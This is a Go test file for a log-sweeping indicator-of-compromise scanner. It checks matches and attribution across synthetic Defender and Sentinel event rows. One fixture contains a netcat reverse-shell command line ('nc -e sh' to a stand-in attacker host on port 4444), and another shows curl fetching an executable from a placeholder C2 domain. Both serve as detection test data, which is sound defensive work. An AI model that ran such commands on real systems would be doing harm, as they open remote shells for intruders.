package scanner

import (
	"fmt"
	"slices"
	"strings"
	"testing"

	"github.com/iocsweep/iocsweep/formats"
	"github.com/iocsweep/iocsweep/scanner/table"
)

// One row of each optional table: what matches, and who it was.
func TestOptionalTables(t *testing.T) {
	for _, c := range []struct {
		table, row, want string
		matches          []string // of the hits, as short gives them
	}{
		{"UrlClickEvents", `"Timestamp":"2026-05-20T10:00:00Z","AccountUpn":"ann@corp.example","Url":"https://login.c2.example:8443/a","ActionType":"ClickBlocked","IPAddress":"192.0.2.9","IsClickedThrough":true,"UrlChain":"[\"https://a.example/x\",\"http://198.51.100.7/y\"]"`,
			"ip=192.0.2.9 user=ann@corp.example peer=198.51.100.7 peer_name=login.c2.example direction=outbound outcome=allowed",
			[]string{"c2.example Url=https://login.c2.example:8443/a(dst,subdomain)", "198.51.100.7 UrlChain=198.51.100.7(dst,ip)"}},
		{"DeviceFileEvents", `"Timestamp":"2026-05-20T10:00:00Z","DeviceName":"pc-1","FileName":"x.exe","FolderPath":"C:\\x.exe","SHA256":"e3b0","ActionType":"FileCreated","FileOriginUrl":"http://c2.example/x.exe","FileOriginIP":"198.51.100.7","InitiatingProcessFileName":"curl.exe","InitiatingProcessAccountDomain":"corp","InitiatingProcessAccountName":"ann"`,
			`host=pc-1 user=corp\ann process=curl.exe peer=198.51.100.7 peer_name=c2.example direction=outbound outcome=unknown`,
			[]string{"c2.example FileOriginUrl=http://c2.example/x.exe(dst,domain)", "198.51.100.7 FileOriginIP=198.51.100.7(dst,ip)"}},
		{"DeviceFileEvents", `"Timestamp":"2026-05-20T10:00:00Z","DeviceName":"nas","FileName":"x","ActionType":"FileCreated","RequestSourceIP":"::ffff:198.51.100.7","RequestSourcePort":50123,"RequestProtocol":"SMB"`,
			`host=nas peer=198.51.100.7 peer_port=50123 protocol=smb direction=inbound outcome=unknown`,
			[]string{"198.51.100.7 RequestSourceIP=::ffff:198.51.100.7(src,ip)"}},
		{"DeviceEvents", `"Timestamp":"2026-05-20T10:00:00Z","DeviceName":"pc-1","ActionType":"DnsQueryResponse","AdditionalFields":{"DnsQueryString":"x.c2.example","DnsQueryResult":"[{\"Result\":\"198.51.100.7\",\"DnsQueryType\":\"A\"}]"},"InitiatingProcessFileName":"p.exe"`,
			`host=pc-1 process=p.exe peer=198.51.100.7 peer_name=x.c2.example direction=outbound outcome=unknown`,
			[]string{"c2.example AdditionalFields.DnsQueryString=x.c2.example(any,subdomain)", "198.51.100.7 AdditionalFields.DnsQueryResult.Result=198.51.100.7(any,ip)"}},
		{"DeviceEvents", `"Timestamp":"2026-05-20T10:00:00Z","DeviceName":"pc-1","ActionType":"FirewallInboundConnectionBlocked","RemoteIP":"198.51.100.7","RemotePort":4444,"LocalIP":"10.0.0.5"`,
			`host=pc-1 ip=10.0.0.5 peer=198.51.100.7 peer_port=4444 direction=inbound outcome=blocked`,
			[]string{"198.51.100.7 RemoteIP=198.51.100.7(src,ip)"}},
		{"DeviceLogonEvents", `"Timestamp":"2026-05-20T10:00:00Z","DeviceName":"srv-1","ActionType":"LogonSuccess","LogonType":"RemoteInteractive","AccountDomain":"corp","AccountName":"ann","RemoteIP":"198.51.100.7","RemotePort":50123,"RemoteDeviceName":"kali","InitiatingProcessFileName":"svchost.exe"`,
			`host=srv-1 user=corp\ann process=svchost.exe peer=198.51.100.7 peer_name=kali peer_port=50123 direction=inbound outcome=allowed`,
			[]string{"198.51.100.7 RemoteIP=198.51.100.7(src,ip)"}},
		{"DeviceProcessEvents", `"TimeGenerated":"2026-05-20T10:00:00Z","DeviceName":"pc-1","FileName":"nc","ProcessCommandLine":"nc -e sh 198.51.100.7:4444 c2.example","AccountName":"root","AccountDomain":"pc-1"`,
			`host=pc-1 user=pc-1\root process=nc command_line=nc -e sh 198.51.100.7:4444 c2.example peer=198.51.100.7 peer_port=4444 direction=unknown outcome=unknown`,
			[]string{"198.51.100.7 ProcessCommandLine=198.51.100.7(process,ip)", "c2.example ProcessCommandLine=c2.example(process,domain)"}},
		{"ASimDnsActivityLogs", `"TimeGenerated":"2026-05-20T10:00:00Z","SrcIpAddr":"10.0.0.5","SrcHostname":"pc-1","DnsQuery":"c2.example.","DnsResponseName":"c2.example IN A 198.51.100.7","EventResultDetails":"NOERROR","DvcHostname":"dns-1"`,
			`host=pc-1 ip=10.0.0.5 peer=198.51.100.7 peer_name=c2.example. protocol=dns direction=outbound outcome=resolved`,
			[]string{"c2.example DnsQuery=c2.example.(query,domain) DnsResponseName=c2.example(answer,domain)", "198.51.100.7 DnsResponseName=198.51.100.7(answer,ip)"}},
		{"ASimDnsActivityLogs", `"TimeGenerated":"2026-05-20T10:00:00Z","SrcIpAddr":"198.51.100.7","DnsQuery":"a.example","EventResultDetails":"NA"`,
			`ip=198.51.100.7 peer_name=a.example protocol=dns direction=outbound outcome=unknown`,
			[]string{"198.51.100.7 SrcIpAddr=198.51.100.7(src,ip)"}},
		{"ASimNetworkSessionLogs", `"TimeGenerated":"2026-05-20T10:00:00Z","SrcIpAddr":"10.0.0.5","SrcHostname":"pc-1","SrcAppName":"p.exe","DstIpAddr":"198.51.100.7","DstPortNumber":443,"DstFQDN":"www.c2.example","NetworkProtocol":"TCP","NetworkDirection":"Outbound","DvcAction":"Drop","EventResult":"Success","SrcBytes":12,"DstBytes":34`,
			`host=pc-1 ip=10.0.0.5 process=p.exe peer=198.51.100.7 peer_name=www.c2.example peer_port=443 protocol=tcp bytes_out=12 bytes_in=34 direction=outbound outcome=blocked`,
			[]string{"198.51.100.7 DstIpAddr=198.51.100.7(dst,ip)", "c2.example DstFQDN=www.c2.example(dst,subdomain)"}},
		{"ASimNetworkSessionLogs", `"TimeGenerated":"2026-05-20T10:00:00Z","SrcIpAddr":"198.51.100.7","DstIpAddr":"10.0.0.5","DstHostname":"web-1","DvcAction":"Allow"`,
			`host=web-1 ip=10.0.0.5 peer=198.51.100.7 direction=inbound outcome=allowed`,
			[]string{"198.51.100.7 SrcIpAddr=198.51.100.7(src,ip)"}},
	} {
		t.Run(c.table, func(t *testing.T) {
			row := fmt.Sprintf(`{"Type":%q,%s}`, c.table, c.row)
			hits, sum := sweep(t, &Scan{Indicators: indicators(t, "198.51.100.7", "c2.example"), Order: AsFound}, jsonl("x.jsonl", row))
			if sum.Files[0].Table != c.table || len(hits) != len(c.matches) {
				t.Fatalf("table %s, %d hits: %s", sum.Files[0].Table, len(hits), strings.Join(hits, "\n"))
			}
			met := map[string]bool{}
			for _, line := range hits {
				met[short(t, line)] = true
			}
			for _, want := range c.matches {
				if !met[want] {
					t.Errorf("no hit %s in %v", want, met)
				}
			}
			address := slices.IndexFunc(hits, func(line string) bool { return strings.HasPrefix(short(t, line), "198") })
			h, err := Decode([]byte(hits[address]), table.Builtin())
			if err != nil {
				t.Fatal(err)
			}
			var said []string
			for _, a := range h.Who.Answers() {
				if v := a.String(); v != "" && (a.Name != "command_line" || c.table == "DeviceProcessEvents") {
					said = append(said, a.Name+"="+v)
				}
			}
			if got := strings.Join(said, " "); got != c.want {
				t.Errorf("who\n%s\nwant\n%s", got, c.want)
			}
			if !h.HasTime {
				t.Errorf("no time")
			}
		})
	}
}

// Tables that hold the same column are told apart by the row's own name, in
// unions as well, and an optional table is never missed.
func TestUnionOfOptionalTables(t *testing.T) {
	const head = "Timestamp,Type,DeviceName,ActionType,RemoteIP,RemotePort,LocalIP,InitiatingProcessFileName,FileName,FolderPath,SHA256,ProcessCommandLine,Url,IsClickedThrough,FileOriginIP\n"
	names := []string{"DeviceNetworkEvents", "DeviceEvents", "DeviceFileEvents", "DeviceProcessEvents", "UrlClickEvents"}
	cells := map[string]string{
		"DeviceNetworkEvents": "1.2.3.4,443,,p,,,,,,,",
		"DeviceEvents":        "1.2.3.4,443,,p,f,,,,,,",
		"DeviceFileEvents":    ",,,p,f,d,00,,,,1.2.3.4",
		"DeviceProcessEvents": ",,,p,f,d,00,ping 1.2.3.4,,,",
		"UrlClickEvents":      ",,,,,,,,http://1.2.3.4/,true,",
	}
	for _, first := range names {
		for _, second := range names {
			if first == second {
				continue
			}
			text := head
			for i, name := range []string{first, second} {
				for range 70 * (1 - i) { // more than the head shows
					text += "2026-05-20T10:00:00Z," + name + ",pc,x,,,,,,,,,,,\n"
				}
				text += "2026-05-20T10:00:00Z," + name + ",pc,x," + cells[name] + "\n"
			}
			in := formats.Bytes("u.csv", []byte(text))
			hits, sum := sweep(t, &Scan{Indicators: indicators(t, "1.2.3.4"), Order: AsFound}, in)
			var met []string
			for _, line := range hits {
				h, err := Decode([]byte(line), table.Builtin())
				if err != nil {
					t.Fatal(err)
				}
				met = append(met, h.Table.Name)
			}
			if got, want := strings.Join(met, " "), first+" "+second; got != want {
				t.Errorf("hits of %q, want %q", got, want)
			}
			for _, a := range sum.Absent {
				if a.Optional {
					t.Errorf("%s is missed", a.Name)
				}
			}
		}
	}
}

// What stands in envelopes counts where nothing of the name stands outside.
func TestSampled(t *testing.T) {
	for _, test := range []struct{ columns, cells, want []string }{
		{[]string{"category", "body.category"}, []string{"a", "b"}, []string{"a"}},
		{[]string{"body.category", "category"}, []string{"b", "a"}, []string{"a"}},
		{[]string{"x", "body.category"}, []string{"a", "b"}, []string{"b"}},
	} {
		if got := sampled(&formats.Part{Columns: test.columns, Sample: [][]string{test.cells}}, category); !slices.Equal(got, test.want) {
			t.Errorf("%q: %q, want %q", test.columns, got, test.want)
		}
	}
}

// The last few are kept, whatever their number.
func TestRecent(t *testing.T) {
	var r recent[int]
	for n := range 2*maxRecent + 2 {
		r.keep(n)
	}
	for n := range 2*maxRecent + 2 {
		if _, ok := r.find(func(m *int) bool { return *m == n }); ok != (n >= maxRecent+2) {
			t.Errorf("%d is kept: %t", n, ok)
		}
	}
}
